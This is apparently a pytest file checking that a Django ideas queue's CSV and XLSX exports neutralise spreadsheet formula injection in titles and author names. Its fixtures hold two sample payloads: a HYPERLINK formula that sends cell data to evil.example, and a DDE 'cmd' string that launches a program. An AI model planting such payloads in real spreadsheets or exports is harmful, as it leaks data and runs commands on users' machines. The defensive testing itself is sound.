"""The ideas queue's CSV and XLSX exports never carry a formula from a resident's title or name
(home/exports.py), and amounts stay numbers in XLSX."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.users.models import UserProfile

from ideas.models import Idea, ResidentProfile

pytestmark = pytest.mark.django_db

QUEUE = "wagtailsnippets_ideas_idea:list"
TITLE = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def staff(client, idea_moderator):
    UserProfile.objects.update_or_create(user=idea_moderator, defaults={"preferred_language": "en"})
    client.force_login(idea_moderator)
    return client


@pytest.fixture
def hostile_idea(published_idea, resident):
    ResidentProfile.objects.update_or_create(user=resident, defaults={"display_name": AUTHOR})
    Idea.objects.filter(pk=published_idea.pk).update(title=TITLE, estimated_cost=Decimal("-1500.50"))
    return published_idea


def download(client, support_round, export_format):
    response = client.get(reverse(QUEUE), {"round": support_round.pk, "export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_csv_export_neutralises_a_hostile_title_and_author(staff, support_round, hostile_idea):
    rows = list(csv.DictReader(io.StringIO(download(staff, support_round, "csv").decode("utf-8"))))

    [row] = [row for row in rows if row["ID"] == str(hostile_idea.pk)]
    assert row["Title"] == "'" + TITLE
    assert row["Author"] == "'" + AUTHOR
    [cost] = [value for heading, value in row.items() if heading.lower().startswith("estimated")]
    assert cost == "-1500.50", "a negative amount is a number: it is written as it is"
    for value in row.values():
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_the_xlsx_export_keeps_a_hostile_title_as_text_and_amounts_as_numbers(
    staff, support_round, hostile_idea
):
    sheet = load_workbook(io.BytesIO(download(staff, support_round, "xlsx"))).active
    headings = [cell.value for cell in sheet[1]]
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == hostile_idea.pk]
    cells = dict(zip(headings, row, strict=True))

    for heading, text in (("Title", TITLE), ("Author", AUTHOR)):
        cell = cells[heading]
        assert cell.value == text
        assert cell.data_type == "s"
        assert cell.quotePrefix, "Excel's own flag: text, never a formula, even when edited"
    assert not [cell.value for cell in row if cell.data_type == "f"]
    cost = next(cell for heading, cell in cells.items() if heading.lower().startswith("estimated"))
    assert cost.data_type == "n"
    assert cost.value == -1500.5, "a negative amount is a number, not text to neutralise"
